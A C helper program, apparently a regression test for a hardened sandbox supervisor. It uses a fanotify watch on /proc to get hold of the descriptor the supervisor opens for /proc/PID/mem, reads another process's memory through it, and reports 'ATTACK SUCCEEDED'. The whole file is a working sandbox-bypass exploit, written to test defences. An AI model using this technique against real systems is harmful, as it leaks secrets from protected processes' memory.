/* rev37-fanotify-mem.c - a program run by execve under a hardened
 * program's filter (not our process), as root: it watches the opens on
 * /proc with fanotify, asks for /proc/PID/mem (the supervisor opens it for
 * the caller, then judges it and refuses), and takes the descriptor the
 * kernel makes for the watcher from the open's event.
 *
 * rev37-fanotify-mem PID ADDR: 31 bytes of PID's memory at ADDR (hex). */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/fanotify.h>
#include <unistd.h>

int main(int argc, char **argv) {
  if (argc < 3)
    return 2;
  setvbuf(stdout, NULL, _IONBF, 0);
  char path[64], buf[32] = {0}, link[64], name[256];
  snprintf(path, sizeof path, "/proc/%s/mem", argv[1]);
  off_t at = (off_t)strtoull(argv[2], NULL, 16);
  /* Events carry a descriptor the kernel opens itself (dentry_open), for
   * reading, with no open system call of ours. */
  int fan = fanotify_init(FAN_CLASS_NOTIF | FAN_NONBLOCK, O_RDONLY);
  if (fan < 0) {
    printf("helper: fanotify_init: %s\n", strerror(errno));
    return 1;
  }
  if (fanotify_mark(fan, FAN_MARK_ADD | FAN_MARK_MOUNT, FAN_OPEN, AT_FDCWD,
                    "/proc")) {
    printf("helper: fanotify_mark: %s\n", strerror(errno));
    return 1;
  }
  /* The control, and the trigger: the supervisor opens the file, then
   * refuses it. */
  int fd = open(path, O_RDONLY);
  printf("helper: plain open of /proc/<main>/mem: %s\n",
         fd < 0 ? strerror(errno) : "opened");
  if (fd >= 0)
    close(fd);
  char ev[8192];
  for (int tries = 0; tries < 50 && !buf[0]; tries++) {
    ssize_t n = read(fan, ev, sizeof ev);
    if (n <= 0) {
      usleep(100000);
      continue;
    }
    struct fanotify_event_metadata *m = (void *)ev;
    for (; FAN_EVENT_OK(m, n); m = FAN_EVENT_NEXT(m, n)) {
      if (m->fd < 0)
        continue;
      snprintf(link, sizeof link, "/proc/self/fd/%d", m->fd);
      ssize_t k = readlink(link, name, sizeof name - 1);
      name[k > 0 ? k : 0] = 0;
      if (strstr(name, "/mem") && !buf[0] && pread(m->fd, buf, 31, at) > 0)
        printf("helper: the event's descriptor of %s read\n", name);
      close(m->fd);
    }
  }
  if (!strncmp(buf, "TOP-SECRET", 10))
    printf("ATTACK SUCCEEDED: fanotify handed over the supervisor's open of "
           "main's memory file: '%s'\n",
           buf);
  else
    printf("helper: no event gave main's memory ('%s')\n", buf);
  return 0;
}
